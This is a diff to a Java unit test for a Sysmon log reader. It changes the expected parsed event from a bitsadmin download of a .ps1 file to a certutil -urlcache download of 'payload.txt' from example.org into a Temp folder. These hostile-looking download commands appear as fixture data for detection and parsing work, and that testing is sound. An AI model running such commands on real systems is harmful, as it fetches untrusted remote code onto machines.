@@ -85,20 +85,20 @@ class SysmonReaderTest {
         ReadResult result = read("flat.ndjson");
         assertEquals(List.of(), result.rejections());
         Event p = at(result, 0).get(0);
-        assertEquals("WORKSTATION5", p.agentId());
+        assertEquals("BUILD-07", p.agentId());
         assertNull(p.id(), "no record number in this export");
-        assertEquals("C:\\Windows\\System32\\bitsadmin.exe", p.process().exe());
+        assertEquals("C:\\Windows\\System32\\certutil.exe", p.process().exe());
         assertEquals("C:\\Windows\\System32\\cmd.exe", p.process().parentExe());
-        assertEquals(10044L, p.process().parent().pid());
-        assertEquals(List.of("/transfer", "/Download", "/priority", "Foreground", "https://example.org/a.ps1",
-                "C:\\Users\\wardog\\AppData\\Local\\Temp\\a.ps1"), p.process().args());
-        assertEquals("eaae8536d554d0e86d8540a8b34db2649bd884843f389495d0b6e91636c6cf54", at(result, 0).get(1).module().sha256());
+        assertEquals(6120L, p.process().parent().pid());
+        assertEquals(List.of("-urlcache", "-split", "-f", "https://example.org/payload.txt",
+                "C:\\Users\\builder\\AppData\\Local\\Temp\\p.txt"), p.process().args());
+        assertEquals("7d9a1c3e5b7f90a2c4e6081b3d5f7a9c1e3b5d7f9a2c4e6081b3d5f7a9c1e3b5", at(result, 0).get(1).module().sha256());
         Event connect = at(result, 1).get(0);
         assertNull(connect.network().dstDomain(), "'-' is Sysmon's 'not available'");
         assertEquals(443, connect.network().dstPort());
         Event load = at(result, 2).get(0);
         assertEquals(new Event.Module("C:\\Windows\\System32\\sechost.dll",
-                "c441e19d20961d4e990e117a300ed318bedbf2f8ba0ff07bee7832ac502cddf2"), load.module());
+                "3c5e7a9b1d3f5a7c9e1b3d5f7a9c1e3b5d7f9a1c3e5b7d9f1a3c5e7b9d1f3a5c"), load.module());
         assertEquals(1, result.ignored().size(), "event 10, process access");
     }
 
